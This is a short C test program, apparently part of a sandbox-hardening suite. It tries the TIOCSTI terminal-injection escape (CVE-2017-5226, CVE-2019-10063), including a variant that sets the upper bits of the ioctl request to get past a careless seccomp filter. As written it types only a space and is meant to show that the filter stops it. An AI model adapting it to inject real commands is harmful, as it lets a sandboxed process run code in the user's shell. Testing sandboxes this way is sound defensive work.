/* SPDX-License-Identifier: MIT
 *
 * Type into the terminal, so that the shell that started the sandbox reads
 * it as the user's next command.
 *
 * TIOCSTI puts a character into the terminal's input. A sandbox that shares
 * its caller's terminal can so make the caller run anything, outside. With
 * the argument "high" it sets the upper 32 bits of the request, which the
 * kernel ignores and a careless filter compares. Harmless here: it types a
 * single space. Step 4 stops it, by the argument filter.
 * CVE-2017-5226, CVE-2019-10063.
 */
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

int main(int argc, char **argv)
{
    unsigned long request = TIOCSTI;

    if (argc == 2 && strcmp(argv[1], "high") == 0) {
        if (sizeof(request) == 4)
            does_not_apply("there are no upper 32 bits on this machine");
        request |= 1UL << 31 << 1;
    }
    if (!isatty(STDIN_FILENO))
        does_not_apply("standard input is no terminal");
    if (syscall(SYS_ioctl, STDIN_FILENO, request, " ") < 0)
        stopped("ioctl(TIOCSTI)");
    learned("typed a character into the terminal");
}
